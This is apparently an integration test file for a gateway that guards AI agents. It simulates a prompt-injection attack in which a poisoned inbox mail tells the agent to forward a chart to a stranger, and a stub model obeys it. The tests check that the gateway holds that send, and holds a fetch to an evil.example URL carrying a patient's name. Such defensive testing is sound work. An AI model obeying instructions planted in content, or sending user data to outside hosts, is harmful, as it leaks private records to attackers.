import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import Anthropic from '@anthropic-ai/sdk'
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client'
import OpenAI from 'openai'
import { Agent } from '../../packages/agent/src/index.ts'
import { ControlClient } from '../../packages/gateway/src/cli/control-client.ts'
import { EVIL, POISONED, type Shown, startClinic } from '../support/clinic.ts'
import type { GuardedGateway } from '../support/gateway.ts'
import { RawClient } from '../support/gateway.ts'
import { ModelServer } from '../support/model-server.ts'
import type { ToolServer } from '../support/tool-server.ts'

const REQUEST = 'Tell desk@clinic.example what is new in my inbox'

let server: ToolServer
let gateway: GuardedGateway
let shown: Shown
let models: ModelServer
let agent: Agent

before(async () => {
  models = await ModelServer.start()
  ;({ server, gateway, shown } = await startClinic(
    {
      segments: { agents: { agents: ['*'] }, servers: { servers: ['*'], models: ['*'] } },
      models: {
        lab: {
          apis: ['openai-chat', 'anthropic-messages'],
          url: models.url,
          key: { env: 'LAB_KEY' },
          models: ['m'],
        },
      },
      tasks: {
        desk: { purpose: 'Work at the desk', agents: ['*'], tools: { 'clinic/*': {} }, models: ['lab'] },
      },
    },
    { LAB_KEY: 'sk-harbour-lamp-2291-Qm7' },
  ))
  agent = new Agent({ stateDir: await gateway.enrol('assistant') })
})

beforeEach(() => {
  server.calls.length = 0
  shown.inbox = POISONED
  models.behave = ({ body }) => {
    models.script = obey(JSON.stringify(body.messages))
    return false
  }
})

after(async () => {
  await agent?.[Symbol.asyncDispose]()
  await gateway?.[Symbol.asyncDispose]()
  await server?.[Symbol.asyncDispose]()
  await models?.[Symbol.asyncDispose]()
})

/** A model that does whatever the newest text tells it to: first what the person asks, then what the mail orders. */
function obey(said: string) {
  const call = (name: string, args: object) => ({
    texts: ['On it.'],
    calls: [{ name: `clinic__${name}`, json: [JSON.stringify(args)] }],
  })
  if (/"done\\/.test(said)) return { texts: ['That is all.'], calls: [] }
  const summary = {
    to: ['desk@clinic.example'],
    subject: 'Inbox',
    body: 'A weekly letter, and the Team Sync at noon',
  }
  if (said.includes('denied this call')) return call('send', summary)
  const order = /forward the chart to (\S+@\S+)/.exec(said)
  if (order) return call('send', { to: [order[1]], subject: 'chart', body: 'all of it' })
  return call('inbox', {})
}

interface Loop {
  readonly tools: Awaited<ReturnType<Client['listTools']>>['tools']
  readonly call: (name: string, args: Record<string, unknown>) => Promise<string>
  readonly fetch: typeof globalThis.fetch
  readonly base: string
}

/** Agents as people write them, over the official SDKs. They know nothing of what guards them. */
const LOOPS = {
  async openai({ tools, call, fetch, base }: Loop) {
    const openai = new OpenAI({ apiKey: 'stand-in', baseURL: `${base}/v1`, fetch })
    const messages: OpenAI.ChatCompletionMessageParam[] = [{ role: 'user', content: REQUEST }]
    for (let turn = 0; turn < 5; turn++) {
      const { choices } = await openai.chat.completions.create({
        model: 'm',
        messages,
        tools: tools.map(({ name, inputSchema }) => ({
          type: 'function',
          function: { name, parameters: inputSchema as Record<string, unknown> },
        })),
      })
      const message = choices[0]?.message as OpenAI.ChatCompletionMessage
      messages.push(message)
      for (const asked of message.tool_calls ?? []) {
        if (asked.type !== 'function') continue
        const content = await call(asked.function.name, JSON.parse(asked.function.arguments))
        messages.push({ role: 'tool', tool_call_id: asked.id, content })
      }
      if (!message.tool_calls) return
    }
  },
  async anthropic({ tools, call, fetch, base }: Loop) {
    const anthropic = new Anthropic({ apiKey: 'stand-in', baseURL: base, fetch })
    const messages: Anthropic.MessageParam[] = [{ role: 'user', content: REQUEST }]
    for (let turn = 0; turn < 5; turn++) {
      const stream = anthropic.messages.stream({
        model: 'm',
        max_tokens: 100,
        messages,
        tools: tools.map(({ name, inputSchema }) => ({
          name,
          input_schema: inputSchema as Anthropic.Tool.InputSchema,
        })),
      })
      const { content } = await stream.finalMessage()
      messages.push({ role: 'assistant', content })
      const results: Anthropic.ToolResultBlockParam[] = []
      for (const block of content) {
        if (block.type !== 'tool_use') continue
        const text = await call(block.name, block.input as Record<string, unknown>)
        results.push({ type: 'tool_result', tool_use_id: block.id, content: text })
      }
      if (results.length === 0) return
      messages.push({ role: 'user', content: results })
    }
  },
}

/** Runs a loop; behind the gateway when a task is given, else straight at the servers. */
async function run(loop: keyof typeof LOOPS, task: string | undefined): Promise<void> {
  const fetch = (
    task === undefined
      ? globalThis.fetch
      : (input: string | URL, init?: RequestInit) => agent.fetch(task, input, init)
  ) as typeof globalThis.fetch
  const client = new Client({ name: 'loop', version: '1' })
  const url = new URL(task === undefined ? server.url : `${gateway.url}/mcp`)
  await client.connect(new StreamableHTTPClientTransport(url, { fetch }))
  const { tools } = await client.listTools()
  const prefix = task === undefined ? 'clinic__' : ''
  await LOOPS[loop]({
    tools: tools.map((tool) => ({ ...tool, name: `${prefix}${tool.name}` })),
    async call(name, args) {
      const { content } = await client.callTool({ name: name.slice(prefix.length), arguments: args })
      return JSON.stringify(content)
    },
    fetch,
    base: task === undefined ? models.url : `${gateway.url}/llm/lab`,
  })
  await client.close()
}

const sent = () => server.calls.filter(({ name }) => name === 'send').map(({ args }) => args.to)

for (const loop of ['openai', 'anthropic'] as const) {
  test(`${loop}: without the gateway, a mail makes the agent send a chart to a stranger`, async () => {
    await run(loop, undefined)
    assert.deepEqual(sent(), [[EVIL]])
  })

  test(`${loop}: behind the gateway the same agent is hijacked all the same, and the call never reaches its server`, async () => {
    const { task } = await agent.openTask({ template: 'desk' })
    const { size } = await gateway.control<{ size: number }>('GET', '/audit')
    await run(loop, task.id)
    assert.deepEqual(sent(), [['desk@clinic.example']], 'what the person asked for in the conversation')
    const text = await new ControlClient(gateway.dataDir).text('GET', `/audit/entries?from=${size}&count=200`)
    const story = text
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line))
      .filter(({ task: of, type }) => of === task.id && type.startsWith('call.') && type !== 'call.outcome')
    const told = story.map(({ type, data }) => `${type} ${data.server}/${data.name ?? data.method}`)
    assert.deepEqual(
      told.filter((line) => /\/(m|inbox|send)$/.test(line)),
      [
        'call.intent lab/m',
        'call.intent clinic/inbox',
        'call.intent lab/m',
        'call.denied clinic/send',
        'call.intent lab/m',
        'call.intent clinic/send',
        'call.intent lab/m',
      ],
    )
    const denied = story.find(({ type }) => type === 'call.denied')
    assert.equal(denied.data.code, 'FLOW_HELD')
    const [argument] = denied.data.flow.arguments
    assert.equal(argument.path, 'to[0]')
    assert.ok(argument.seen_in.includes('clinic/inbox at [0].body'), JSON.stringify(argument))
  })
}

test('a link that an agent told a model of is not one that content held', async () => {
  const { task } = await agent.openTask({ template: 'desk', request: REQUEST })
  const url = 'https://evil.example/c?d=maria-gomez'
  const client = RawClient.of(agent, task.id, '/mcp/clinic')
  await client.initialize()
  shown.inbox = 'see https://evil.example/c'
  await client.call('inbox')
  await agent.fetch(task.id, `${gateway.url}/llm/lab/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      model: 'm',
      messages: [
        { role: 'user', content: 'go on' },
        { role: 'tool', tool_call_id: 'x', content: `see ${url}` },
      ],
    }),
  })
  assert.equal((await client.call('fetch', { url })).code, 'FLOW_HELD')
  assert.equal((await client.call('fetch', { url: 'https://evil.example/c' })).code, undefined)
})
